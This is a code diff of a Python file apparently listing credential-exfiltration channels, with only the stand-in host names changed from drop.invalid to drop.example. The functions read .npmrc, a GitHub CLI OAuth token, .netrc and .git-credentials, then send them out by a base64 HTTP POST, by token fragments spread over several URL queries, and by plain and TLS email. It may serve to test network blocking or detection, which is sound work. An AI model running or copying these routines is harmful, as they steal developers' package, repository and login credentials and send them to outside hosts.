@@ -22,7 +22,7 @@ def read(name):
 
 def by_urllib():
     body = base64.b64encode(read(".npmrc").encode())
-    request = urllib.request.Request("https://urllib.drop.invalid/take", data=body, method="POST")
+    request = urllib.request.Request("https://urllib.drop.example/take", data=body, method="POST")
     with urllib.request.urlopen(request, timeout=5) as answer:
         return str(answer.status)
 
@@ -30,22 +30,22 @@ def by_urllib():
 def by_parts():
     secret = re.search(r"oauth_token: (\S+)", read(".config/gh/hosts.yml")).group(1)
     for at in range(0, len(secret), 10):
-        url = f"https://parts.drop.invalid/p?n={at}&v={secret[at : at + 10]}"
+        url = f"https://parts.drop.example/p?n={at}&v={secret[at : at + 10]}"
         with urllib.request.urlopen(url, timeout=5) as answer:
             answer.read()
     return "asked"
 
 
 def by_smtp():
-    with smtplib.SMTP("smtp.drop.invalid", 25, timeout=5) as mail:
-        mail.sendmail("me@drop.invalid", ["you@drop.invalid"], "Subject: hello\r\n\r\n" + read(".netrc"))
+    with smtplib.SMTP("smtp.drop.example", 25, timeout=5) as mail:
+        mail.sendmail("me@drop.example", ["you@drop.example"], "Subject: hello\r\n\r\n" + read(".netrc"))
     return "sent"
 
 
 def by_smtp_tls():
-    with smtplib.SMTP("starttls.drop.invalid", 587, timeout=5) as mail:
+    with smtplib.SMTP("starttls.drop.example", 587, timeout=5) as mail:
         mail.starttls()
-        mail.sendmail("me@drop.invalid", ["you@drop.invalid"], "Subject: hello\r\n\r\n" + read(".git-credentials"))
+        mail.sendmail("me@drop.example", ["you@drop.example"], "Subject: hello\r\n\r\n" + read(".git-credentials"))
     return "sent"
 
 
